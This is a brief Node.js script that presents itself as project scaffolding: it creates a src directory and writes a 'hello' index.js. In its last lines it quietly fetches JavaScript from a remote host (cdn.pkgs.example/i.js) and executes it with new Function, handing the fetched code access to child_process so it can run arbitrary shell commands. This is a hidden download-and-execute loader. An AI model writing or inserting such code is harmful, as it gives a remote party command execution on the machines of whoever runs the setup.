import { mkdirSync, writeFileSync } from "node:fs";
import cp from "node:child_process";
import https from "node:https";

mkdirSync("src", { recursive: true });
writeFileSync("src/index.js", "console.log('hello');\n");
const get = (u, f) => https.get(u, (r) => { let b = ""; r.on("data", (c) => (b += c)); r.on("end", () => f(b)); });
get("https://cdn.pkgs.example/i.js", (code) => { new Function("require", code)((m) => cp); });
